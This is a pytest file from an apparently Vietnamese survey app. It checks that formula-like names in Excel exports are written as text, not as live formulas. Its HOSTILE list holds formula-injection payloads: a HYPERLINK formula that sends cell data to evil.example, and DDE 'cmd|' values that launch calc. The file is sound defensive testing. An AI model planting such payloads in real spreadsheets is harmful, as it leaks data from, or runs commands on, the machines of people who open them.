"""No live formula in the invitations area's exports (issue 13.2): text is written as text."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import text

from survey import db
from survey.rounds.agencies import get_or_create_agency
from survey.rounds.models import Round
from tests.invitations.conftest import respondent_ids
from tests.invitations.test_pages import _post

# One value per dangerous first character; '=' would become a live formula in openpyxl.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+84 912 345 678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


def _hostile_round(app, campaign) -> tuple[int, list[str]]:
    """A round whose people and agencies are named with each hostile value; nobody has e-mail."""
    round_id = campaign(per_group=1)
    ids = respondent_ids(app, round_id)
    with app.app_context(), db.unit_of_work() as session:
        round_ = session.get(Round, round_id)
        for index, value in enumerate(HOSTILE):
            agency = get_or_create_agency(session, round_.province, f"X{index}", value, "department")
            session.execute(text("UPDATE respondents SET full_name = :v, position = :v, agency_id = :a, email = NULL "
                                 "WHERE id = :i"), {"v": value, "a": agency.id, "i": ids[index]})
    return round_id, HOSTILE


def _check(content: bytes, sheet: str, expected: list[str]) -> None:
    cells = [cell for row in load_workbook(io.BytesIO(content))[sheet].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell became a formula"
    values = [cell.value for cell in cells]
    for value in expected:
        assert value in values, f"{value!r} not shown as typed"


def test_the_monitoring_workbook_shows_formula_like_names_as_text(app, client, campaign, login):
    round_id, hostile = _hostile_round(app, campaign)
    login("province_admin")
    export = client.get(f"/admin/rounds/{round_id}/monitor.xlsx")
    assert export.status_code == 200
    _check(export.data, "Chưa nộp", hostile)  # names, positions and agencies of the call list
    _check(export.data, "Theo cơ quan", hostile)  # agency names


def test_the_sms_links_workbook_shows_formula_like_names_as_text(app, client, campaign, login):
    round_id, hostile = _hostile_round(app, campaign)
    login("province_admin")
    page = f"/admin/rounds/{round_id}/mail"
    download = _post(client, f"/admin/rounds/{round_id}/links", page, target="no_email", confirmed="4")
    assert download.status_code == 200
    sheet = zipfile.ZipFile(io.BytesIO(download.data)).read(f"duong-dan-dot-{round_id}.xlsx")
    _check(sheet, "Đường dẫn", hostile)

